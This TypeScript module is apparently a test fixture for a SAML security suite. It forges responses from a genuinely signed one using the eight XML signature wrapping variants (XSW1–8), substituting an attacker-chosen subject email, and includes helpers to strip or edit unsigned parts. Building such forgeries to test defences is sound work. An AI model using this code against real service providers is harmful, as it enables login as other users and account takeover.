// Forged SAML responses for the security suite, made from a response the test IdP really signed:
// the XML signature wrapping variants XSW1–8 (as SAML Raider names them) and small edits of
// unsigned parts. Each forgery carries an "evil" assertion for another person.
import { DOMParser, XMLSerializer, type Document, type Element } from "@xmldom/xmldom";

const DSIG = "http://www.w3.org/2000/09/xmldsig#";
const SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol";

const parse = (xml: string) => new DOMParser().parseFromString(xml, "text/xml") as unknown as Document;
const serialize = (doc: Document) => new XMLSerializer().serializeToString(doc);

function child(el: Element, local: string): Element | undefined {
  for (let n = el.firstChild; n; n = n.nextSibling) if (n.nodeType === 1 && (n as Element).localName === local) return n as Element;
  return undefined;
}
const clone = (el: Element) => el.cloneNode(true) as Element;
function withoutSignature(el: Element): Element {
  const c = clone(el);
  const sig = child(c, "Signature");
  if (sig) c.removeChild(sig);
  return c;
}

/** A copy of the signed assertion with its signature removed, a new ID and `evilEmail` as subject. */
function evilAssertion(doc: Document, assertion: Element, victimEmail: string, evilEmail: string, keepSignature = false): Element {
  const xml = new XMLSerializer().serializeToString(keepSignature ? clone(assertion) : withoutSignature(assertion));
  const evil = parse(xml.replaceAll(victimEmail, evilEmail)).documentElement!;
  evil.setAttribute("ID", "_evil_assertion");
  return doc.importNode(evil, true) as Element;
}

export type XswVariant = "XSW1" | "XSW2" | "XSW3" | "XSW4" | "XSW5" | "XSW6" | "XSW7" | "XSW8";
export const XSW_VARIANTS: XswVariant[] = ["XSW1", "XSW2", "XSW3", "XSW4", "XSW5", "XSW6", "XSW7", "XSW8"];
/** XSW1–2 target the Response signature, XSW3–8 the Assertion signature. */
export const targetsResponseSignature = (v: XswVariant) => v === "XSW1" || v === "XSW2";

/**
 * Applies one wrapping attack to `signedXml` (a response whose Response is signed for XSW1–2 and
 * whose Assertion is signed for XSW3–8), making `evilEmail` the subject a naive reader sees.
 */
export function wrap(variant: XswVariant, signedXml: string, victimEmail: string, evilEmail: string): string {
  const doc = parse(signedXml);
  const root = doc.documentElement!;
  const assertion = child(root, "Assertion")!;
  const status = child(root, "Status")!;
  switch (variant) {
    case "XSW1":
    case "XSW2": {
      // A new Response around the evil assertion, the original Response kept where the
      // signature's reference still finds it: inside the Signature (1) or beside it (2).
      const original = withoutSignature(root);
      const signature = child(root, "Signature")!;
      root.setAttribute("ID", "_evil_response");
      root.replaceChild(evilAssertion(doc, assertion, victimEmail, evilEmail), assertion);
      if (variant === "XSW1") signature.appendChild(original);
      else root.insertBefore(original, signature);
      break;
    }
    case "XSW3":
      // The evil assertion first, the signed one after it.
      root.insertBefore(evilAssertion(doc, assertion, victimEmail, evilEmail), assertion);
      break;
    case "XSW4": {
      // The evil assertion wraps the signed one.
      const evil = evilAssertion(doc, assertion, victimEmail, evilEmail);
      root.replaceChild(evil, assertion);
      evil.appendChild(assertion);
      break;
    }
    case "XSW5": {
      // The evil assertion carries the original signature; an unsigned copy of the original follows.
      const evil = evilAssertion(doc, assertion, victimEmail, evilEmail, true);
      evil.setAttribute("ID", "_evil_assertion");
      root.replaceChild(evil, assertion);
      root.appendChild(withoutSignature(assertion));
      break;
    }
    case "XSW6":
    case "XSW8": {
      // The evil assertion carries the original signature, and the original (unsigned) sits
      // inside that signature: directly (6) or in a ds:Object (8).
      const evil = evilAssertion(doc, assertion, victimEmail, evilEmail, true);
      evil.setAttribute("ID", "_evil_assertion");
      const signature = child(evil, "Signature")!;
      const original = withoutSignature(assertion);
      if (variant === "XSW6") signature.appendChild(original);
      else {
        const object = doc.createElementNS(DSIG, "ds:Object");
        object.appendChild(original);
        signature.appendChild(object);
      }
      root.replaceChild(evil, assertion);
      break;
    }
    case "XSW7": {
      // The signed assertion hidden in Extensions, the evil one where an assertion belongs.
      const extensions = doc.createElementNS(SAMLP, "samlp:Extensions");
      root.replaceChild(evilAssertion(doc, assertion, victimEmail, evilEmail), assertion);
      extensions.appendChild(assertion);
      root.insertBefore(extensions, status);
      break;
    }
  }
  return serialize(doc);
}

/** Removes the Response's own signature (what an attacker can always do). */
export function stripResponseSignature(xml: string): string {
  const doc = parse(xml);
  const sig = child(doc.documentElement!, "Signature");
  if (sig) doc.documentElement!.removeChild(sig);
  return serialize(doc);
}

/** Edits the Response element (not the assertion) of `xml`. */
export function editResponse(xml: string, edit: (root: Element, doc: Document) => void): string {
  const doc = parse(xml);
  edit(doc.documentElement!, doc);
  return serialize(doc);
}

export const b64 = (xml: string) => Buffer.from(xml, "utf8").toString("base64");
export const unb64 = (value: string) => Buffer.from(value, "base64").toString("utf8");
